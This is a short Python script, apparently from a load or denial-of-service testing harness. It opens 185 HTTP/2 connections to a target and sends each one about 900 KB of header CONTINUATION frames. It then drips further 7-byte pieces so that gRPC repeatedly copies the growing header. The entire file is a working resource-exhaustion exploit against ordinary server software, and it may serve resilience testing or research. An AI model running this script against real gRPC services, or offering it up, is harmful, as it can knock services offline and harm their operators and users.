"""Opens connections that each send most of a mebibyte of a header, and then a
few bytes of it at a time. With each piece gRPC copies all earlier pieces."""

import attack
import http2

CONNECTIONS = 185
BEGINNING = 900_000
PIECE = b"a" * 7


def begin(target, stage):
    """A connection with a header of which BEGINNING bytes have been sent."""
    connection = http2.Connection(target)
    stage.held.append(connection)
    connection.await_greeting(stage.until)
    connection.answers = False
    connection.send(http2.frame(
        http2.HEADERS, 0, 1, b"\x83\x86\0" + http2.varint(1, 7) + b"x" +
        http2.varint(3 << 30, 7)))
    full = http2.frame(http2.CONTINUATION, 0, 1, b"a" * http2.DEFAULT_FRAME)
    connection.send(full * (BEGINNING // http2.DEFAULT_FRAME))


def run(target, stage):
    """All of them drip in turn, until none is left."""
    piece = http2.frame(http2.CONTINUATION, 0, 1, PIECE)
    while not stage.over() and len(stage.held) < CONNECTIONS:
        begin(target, stage)
    pieces = 0
    while not stage.over():
        left = [each for each in stage.held if not each.closed]
        if not left:
            break
        for connection in left:
            pieces += connection.send(piece, 0.5)
    stage.figures["connections"] = len(stage.held)
    stage.figures["left"] = sum(not each.closed for each in stage.held)
    stage.figures["pieces"] = pieces


if __name__ == "__main__":
    attack.main(run, seconds=8)
